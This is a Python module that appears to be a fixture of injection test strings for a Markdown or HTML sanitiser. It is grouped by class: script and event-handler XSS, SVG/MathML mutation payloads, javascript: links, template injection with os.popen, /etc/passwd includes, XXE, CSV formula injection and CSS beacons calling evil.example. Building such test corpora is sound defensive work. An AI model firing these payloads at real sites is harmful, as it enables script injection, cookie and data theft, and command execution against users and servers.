"""Hostile texts by class: each tries to run `alert(1)`, to restyle a page, to load something, or to read otherwise.

Written from knowledge of the classes that cheat sheets and reports of Markdown injection name; each is one line.
"""

from __future__ import annotations

SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt >alert(1)</sCrIpT >
<script/x>alert(1)</script>
<script	>alert(1)</script	>
<script src=//evil.example/x.js></script>
<script src="https://evil.example/x.js"></script>
<script src=data:text/javascript,alert(1)></script>
<script type=module>import "https://evil.example/x.js"</script>
<script>alert(1)//
<script>alert(1)<!--
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
</h1></header></main><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
"><script>alert(1)</script>
'><script>alert(1)</script>
';alert(1);//
";alert(1);//
`-alert(1)-`
${alert(1)}
</script><svg onload=alert(1)>
<xss><script>alert(1)</script></xss>
<script>import('https://evil.example/x.js')</script>
<script language=vbscript>MsgBox 1</script>
"""

HANDLERS = r'''
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<img src=x onerror	=alert(1)>
<img src=x:x onerror=alert(1)//
<img """><script>alert(1)</script>">
<img src=`x`onerror=alert(1)>
<image src=x onerror=alert(1)>
<img srcset=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<button autofocus onfocus=alert(1)>x
<details open ontoggle=alert(1)>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>
<p onanimationstart=alert(1) style=animation-name:x>
<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart=alert(1)></xss>
<xss contenteditable autofocus onfocus=alert(1) tabindex=1>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<object onerror=alert(1) data=x>
<track onerror=alert(1) src=x>
<iframe onload=alert(1)></iframe>
<link rel=stylesheet href=x onerror=alert(1)>
<a href=x onmouseover=alert(1) style=position:fixed;inset:0>x</a>
<b onclick=alert(1)>x</b>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
x" onerror="alert(1)" y="
<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
'''

FOREIGN = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><script xlink:href=data:,alert(1)></script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<table><td background="javascript:alert(1)">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<embed src="https://evil.example/x.swf">
<frameset onload=alert(1)>
<applet code=x archive=https://evil.example/x.jar>
<base href=https://evil.example/>
<base href=javascript:/a/-alert(1)///////>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example/>
<form action=https://evil.example/><input name=x><button>x</button></form>
<form id=search-form action=https://evil.example/>
<input form=archive-search-form formaction=javascript:alert(1) type=submit>
<button form=archive-search-form formaction=https://evil.example/>x
<portal src=https://evil.example/>
<a href=x id=main name=archive-search>x</a>
<img name=getElementById><img name=querySelector>
<form name=location><input name=href value=https://evil.example/></form>
<input name=attributes><input name=body>
"""

LINKS = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29)
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x]( javascript:alert(1))
[x](\javascript:alert(1))
[x](<javascript:alert(1)>)
[x](javascript://%0aalert(1))
[x](javascript://https://www.example.org/%0aalert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:MsgBox(1))
[x](feed:javascript:alert(1))
[x](view-source:javascript:alert(1))
[x](blob:https://evil.example/x)
[x](file:///etc/passwd)
[x](//evil.example/)
[x](\\evil.example\x)
[x](https://evil.example/)
[x](https://evil.example/ "onmouseover=alert(1)")
[x](https://evil.example/" onmouseover="alert(1))
[x](https://evil.example/'onmouseover='alert(1))
[x][y]
[x]: javascript:alert(1)
[x]: <javascript:alert(1)> "x"
[javascript:alert(1)]
[x](y)[z](javascript:alert(1))
[a](b"onclick=alert(1)//)
[![x](y)](javascript:alert(1))
![x](javascript:alert(1))
![x](https://evil.example/x.png)
![x](https://evil.example/x.png "y")
![x](x"onerror="alert(1))
![x"onerror="alert(1)](x)
!["onerror="alert(1)"](x)
![x](x 'onerror=alert(1)')
![x][y]
<javascript:alert(1)>
<javascript&#58;alert(1)>
<https://evil.example/"onmouseover="alert(1)>
<https://evil.example/>
<x@evil.example>
<data:text/html,<script>alert(1)</script>>
https://evil.example/
www.evil.example
javascript:alert(1)
JAVASCRIPT:alert(1)//
data:text/html,<script>alert(1)</script>
vbscript:MsgBox(1)
https://evil.example/"onmouseover="alert(1)
https://evil.example/'><script>alert(1)</script>
https://user@evil.example:80/?a=b&c=<b>#"x
<a href="javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="https://evil.example/" target=_blank>x</a>
<a href=x download=y>x</a>
<a ping=https://evil.example/ href=x>x</a>
<area href=javascript:alert(1)>
"""

TEMPLATES = r"""
{{ 7 * 7 }}
{{ config }}
{{ config.__class__.__init__.__globals__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{% for x in range(9) %}x{% endfor %}
{% include "/etc/passwd" %}
{% import os %}
{# comment #}
{{ page.content }}
{{constructor.constructor('alert(1)')()}}
${7*7}
#{7*7}
<%= 7 * 7 %>
--8<-- "/etc/passwd"
--8<-- "https://evil.example/x.md"
;--8<-- "x"
{!/etc/passwd!}
{: onclick="alert(1)" }
{: .x #main style="position:fixed" }
x {: onclick=alert(1) }
{#main onclick=alert(1)}
!!! danger "<script>alert(1)</script>"
??? note "<img src=x onerror=alert(1)>"
::: x onclick=alert(1)
:smile:{ onclick=alert(1) }
[TOC]
[^1]: <script>alert(1)</script>
*[x]: <script>alert(1)</script>
$$\href{javascript:alert(1)}{x}$$
```html <script>alert(1)</script>
~~~ {onclick=alert(1)}
    <script>alert(1)</script>
`<script>alert(1)</script>`
``<img src=x onerror=alert(1)>``
%s%n%x {0} {x.__class__}
<!-- material/tags -->
"""

ENTITIES = r"""
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&#0000060script&#0000062alert(1)
&amp;lt;script&amp;gt;alert(1)
&LT;script&GT;alert(1)
&lt&gt&quot&#39
&quot; onmouseover=&quot;alert(1)
&#34; onmouseover=&#34;alert(1)
&NewLine;&Tab;&colon;&lpar;&rpar;
&#x110000; &#xD800; &#0;
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253Ealert(1)
\x3cscript\x3ealert(1)
\u003cscript\u003ealert(1)
\<script\>alert(1)
\\<script>alert(1)</script>
*<img src=x onerror=alert(1)>*
**<svg onload=alert(1)>**
_<script>_alert(1)</script>
*x<b*onclick=alert(1)>
__proto__
constructor
toString
[object Object]
NaN null undefined
"""

STYLES = r"""
<style>body{display:none}</style>
<style>@import "https://evil.example/x.css";</style>
<style>input[value^=a]{background:url(https://evil.example/a)}</style>
<div style="position:fixed;inset:0;background:red">x</div>
<div style="background:url(https://evil.example/x)">x</div>
<div style="width:expression(alert(1))">x</div>
<b style=behavior:url(#default#time2)>x</b>
</style><style>*{color:red}</style>
x;}body{display:none}
"><style>*{display:none}</style>
<font color=red size=99>x</font>
<h1 class=md-header>x</h1>
<div class="md-header" id="archive-search">x</div>
<center><big>x</big></center>
<table bgcolor=red><tr><td>x</table>
"""

_LETTERS = (
    "abc\u202egnp.exe",
    "\u202e<script>alert(1)</script>\u202c",
    "\u2066x\u2067y\u2068z\u2069",
    "x\u200bscript\u200d\u2060y",
    "\ufeff<script>alert(1)</script>",
    "Min\u0456stry of Tr\u0430de",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bd\u02bescript\u203aalert(1)",
    "\u2039img src=x onerror=alert(1)\u203a",
    "x\u2028alert(1)\u2029y",
    "x\u0085y\u00a0z",
    "\u00adjava\u00adscript:alert(1)",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319a\u0334lgo",
    "\U000e0041\U000e0042x",
    "\U0001f3f4\U000e0067\U000e0062x",
    "\ufdfd" * 40,
    "A" * 5000,
    "<" * 2000,
    "[" * 500 + "]" * 500,
    "*" * 999,
    "<b>" * 300,
    "a" + "\u0300" * 300,
    "\u0001\u0008\u001b[31mx",
    "x\u007f\u009by",
)
"""Letters that hide, look like others or are many; no page holds NUL, which `clean` takes away."""


MUTATIONS = r"""
<form><input name=attributes><input name=attributes>
<form id=test><input name=parentNode></form><img name=createElement>
<a id=document><a id=document name=cookie href=javascript:alert(1)>
<img name=getElementById><img name=querySelector><form name=body>
<a id=defaultView><a id=defaultView name=location href=javascript:alert(1)>
<iframe name=self srcdoc="<a id=x href=javascript:alert(1)></a>">
<a id=p1>x</a><h2 id=corrections>x</h2><p id=main>x</p>
<a id=__config href=x></a><script id=__config type=application/json>{"base":"//evil.example"}</script>
<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">
<math><mi><table><mglyph><nolink><style><img src=x onerror=alert(1)>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<svg></p><style><g title="</style><img src onerror=alert(1)>">
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg><desc><svg/onload=alert(1)//
<svg><discard onbegin=alert(1)>
<svg><image href=x onerror=alert(1)>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>
<svg><animate xlink:href=#x attributeName=href values=&#106;avascript:alert(1) /><a id=x><text>x</text></a>
<svg><script href=data:text/javascript,alert(1) /></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math xlink:href=javascript:alert(1)><mtext>x</mtext></math>
<math><mglyph><style></math><img src onerror=alert(1)>
<d3"<"/onclick="1>[confirm``]"<">z
<w="/x="y>"/ondblclick=`<`[alert``]>z
<a"/onclick=(alert)(1)>x
<details/open/ontoggle="self['ale'+'rt'](1)">
<body onscrollsnapchange=alert(1)><br><br>
<xss onscrollend=alert(1) style="display:block;overflow:auto"><br></xss>
<video onloadstart=alert(1)><source></video>
<video controls onwebkitplaybacktargetavailabilitychanged=alert(1)>
<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
<link rel=canonical accesskey=X onclick=alert(1)>
<div onbeforematch=alert(1) hidden=until-found>x</div>
<input type=image src=x onerror=alert(1) formaction=javascript:alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<xml onreadystatechange=alert(1)>
<comment><img src="</comment><img src=x onerror=alert(1)>">
<![<img src=x onerror=alert(1)//]>
<? foo="><script>alert(1)</script>">
<! foo="><script>alert(1)</script>">
</ foo="><script>alert(1)</script>">
<% foo><x foo="%><script>alert(1)</script>">
<!--<img src="--><img src=x onerror=alert(1)//">
<a href=" &#14;  javascript:alert(1)">x</a>
<a href="javas&Tab;cript:alert(1)">x</a>
<a href="j&#x61;vascript&#x3A;alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
[x](javascript://www.example.org%0Aalert(1))
[x](java&#10;script:alert(1))
[x]( javascript:alert(1) "t" )
![x]("onerror="alert(1))
[x]: javascript:alert(1) "t"
[![x](https://evil.example/a.png)](javascript:alert(1))
[notmalicious](javascript:window.onerror=alert;throw%20document.cookie)
[citelol]: (javascript:prompt(document.cookie))
[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<details><summary>x</summary><img src=https://evil.example/p.png></details>
| a | <script>alert(1)</script> |
```mermaid graph TD; A[<img src=x onerror=alert(1)>] ```
$$\htmlData{onclick=alert(1)}{x}$$ $`\unicode{<img src=x onerror=alert(1)>}`$
:::{iframe} https://evil.example/
{{$on.constructor('alert(1)')()}}
#{7*7} *{7*7} @(7*7) <%= 7*7 %> ${{7*7}}
{{ config.items() }}{% include '/etc/passwd' %}
{% raw %}{{ x }}{% endraw %}
{: onclick="alert(1)" .md-header }
{ .md-header onclick=alert(1) }
</script><!--<script>alert(1)</script>
"},"x":"</script><script>alert(1)</script>
{"@context":"https://schema.org","@type":"Thing"}</script>
\u2028alert(1)\u2029
"""

"""What a parser may put together anew, what takes the place of a page's own parts, and links that hide what they are."""

DATA = r"""
=cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
=HYPERLINK("https://evil.example/?"&A1,"x")
=WEBSERVICE("https://evil.example/")
;=cmd|' /C calc'!A0
x","=1+1","y
ER  - TY  - JOUR T1  - other
T1  - other
}, author = {Other}, note = {x
@article{other, title = {x}}
\input{/etc/passwd} \write18{id} \href{javascript:alert(1)}{x}
% \end{document}
]]></content><entry><title>other</title></entry>
]]>&lt;script&gt;alert(1)&lt;/script&gt;
</title></item><item><title>other</title></item>
<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;
" xmlUrl="https://evil.example/" x="
::set-output name=x::y
::add-mask::statement
::stop-commands::x
##[add-mask]statement
%0A::error::x
x%0D%0A::warning file=x::y
vbscript:msgbox(1)
//evil.example/x
\\evil.example\x
https:evil.example
http:/evil.example/
https://evil.example@arvenia.example/
https://arvenia.example\@evil.example/
file:///etc/passwd
blob:https://evil.example/1
about:blank#<script>alert(1)</script>
../../../../etc/passwd
"""

"""What leaves a field of a file of data: CSV, RIS, BibTeX, feeds, OPML, and what commands a workflow; odd addresses."""

_TERMINAL = (
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\x1b[2J\x1b[H owned",
    "\r\x1b[Aowned",
    "\x9b2Jowned",
    "\u202exss\u202c",
    "\u2066<img src=x onerror=alert(1)>\u2069",
    "\ufff9x\ufffay\ufffb",
    "\u034f\u115f\u1160\u17b4\u3164\uffa0",
    "A\u030a\u20e3\u20dd",
)
"""What would move the cursor of a terminal, or be drawn as nothing."""


def _lines(text: str) -> list[str]:
    return [line for line in text.split("\n") if line.strip()]


ALL = tuple(
    dict.fromkeys(
        [
            *_lines(SCRIPTS),
            *_lines(HANDLERS),
            *_lines(FOREIGN),
            *_lines(LINKS),
            *_lines(TEMPLATES),
            *_lines(ENTITIES),
            *_lines(STYLES),
            *_lines(MUTATIONS),
            *_lines(DATA),
            *_LETTERS,
            *_TERMINAL,
        ]
    )
)
"""Every vector, each once."""
